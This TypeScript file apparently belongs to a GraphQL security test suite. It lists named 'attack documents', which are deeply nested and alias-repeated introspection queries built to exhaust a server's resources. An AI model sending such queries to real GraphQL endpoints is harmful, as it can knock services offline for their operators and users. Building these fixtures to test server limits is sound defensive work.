import { getIntrospectionQuery } from 'graphql';
import { type AttackDocument, times } from './attack-document.ts';

export const introspections: readonly AttackDocument[] = [
  { name: 'the standard introspection', query: getIntrospectionQuery() },
  { name: 'the standard introspection, 7 times', query: repeated(7) },
  { name: 'fields of types of fields', query: '{__schema{types{fields{type{fields{type{name kind}}}}}}}' },
  {
    name: 'fields of types of fields, 20 times',
    query: `{${times(20, (index) => `a${index}:__schema{types{fields{type{fields{type{name kind}}}}}}`)}}`,
  },
  {
    name: 'arguments of types of arguments',
    query: '{__schema{types{fields{args{type{ofType{fields{args{type{inputFields{name}}}}}}}}}}}',
  },
  {
    name: 'enum values of types of fields',
    query: `{${times(20, (index) => `a${index}:__schema{types{fields{type{ofType{fields{type{enumValues{name}}}}}}}}`)}}`,
  },
];

function repeated(count: number): string {
  const [, body = '', fragments = ''] = /^[^{]*\{(.*?)\n {4}\}(.*)$/s.exec(getIntrospectionQuery()) ?? [];
  return `{${times(count, () => body)}}${fragments}`;
}
